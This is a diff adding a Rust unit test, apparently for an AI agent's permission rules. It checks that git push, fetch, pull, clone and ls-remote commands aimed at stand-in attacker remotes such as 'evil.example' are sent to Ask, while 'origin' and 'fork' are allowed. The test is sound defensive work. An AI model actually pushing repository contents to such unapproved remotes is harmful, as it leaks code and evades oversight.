@@ -344,3 +344,25 @@ fn what_an_allow_rule_matches_ends_with_a_word() {
     assert_rules(yaml, &[("mcp__a__b", docs, Allow)]);
     assert_rules(yaml, &[("mcp__a__b", json!({ "path": "docs~" }), Ask)]);
 }
+
+#[test]
+fn an_allow_rule_about_git_names_any_remote_that_is_not_the_project_s() {
+    let yaml =
+        "permissions:\n  allow: ['^git (push|fetch|pull|clone|ls-remote)', '^git push fork']\n";
+    let lines = [
+        ("git push ./target/evil.git feature/x", Ask),
+        ("git push https://evil.example/x", Ask),
+        ("git push git@evil.example:x", Ask),
+        ("git push ../x feature/x", Ask),
+        ("git fetch ./target/evil.git", Ask),
+        ("git pull ./target/evil.git x", Ask),
+        ("git ls-remote ./target/evil.git", Ask),
+        ("git clone ./target/evil.git", Ask),
+        ("git clone https://a.example/x", Allow),
+        ("git ls-remote origin", Allow),
+        ("git push origin feature/x", Allow),
+        ("git push fork feature/x", Allow),
+    ];
+    let calls = lines.map(|(line, decision)| ("Bash", json!({ "command": line }), decision));
+    assert_rules(yaml, &calls);
+}
